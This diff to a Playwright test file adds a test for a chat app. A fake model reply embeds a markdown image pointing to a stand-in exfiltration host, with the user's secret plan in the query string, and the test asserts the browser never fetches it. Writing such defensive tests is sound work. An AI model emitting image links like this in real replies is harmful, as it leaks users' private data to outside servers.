@@ -491,3 +491,16 @@ def test_the_deliberation_can_be_hidden_from_users_and_is_recorded_anyway(browse
     finally:
         server.stop()
         shutil.rmtree(workdir, ignore_errors=True)
+
+
+def test_a_remote_image_in_a_reply_is_never_fetched(browser, app, fake):
+    from playwright.sync_api import expect
+
+    tess = Person(browser, app, "tess")
+    tess.sign_in()
+    fake.script("chat", "Here is your chart: ![chart](https://exfil.example/pixel.png?typed=my-secret-plan) done.")
+    tess.send("Draw me a chart of my secret plan")
+    expect(tess.page.locator(LAST_REPLY).last).to_contain_text("done.", timeout=15_000)
+    tess.page.wait_for_timeout(1_500)
+    assert not [url for url in tess.blocked if "exfil.example" in url]  # the browser never even asked
+    tess.close()
